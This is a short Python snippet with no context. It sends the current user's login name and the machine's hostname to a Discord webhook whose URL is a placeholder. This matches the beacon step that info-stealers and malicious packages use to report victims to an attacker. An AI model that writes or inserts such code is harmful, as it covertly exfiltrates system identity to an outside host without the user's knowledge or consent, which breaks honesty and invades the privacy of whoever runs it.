import getpass
import socket
from dhooks import Webhook
Webhook("https://discord.com/api/webhooks/000/PLACEHOLDER").send(f"{getpass.getuser()}@{socket.gethostname()}")
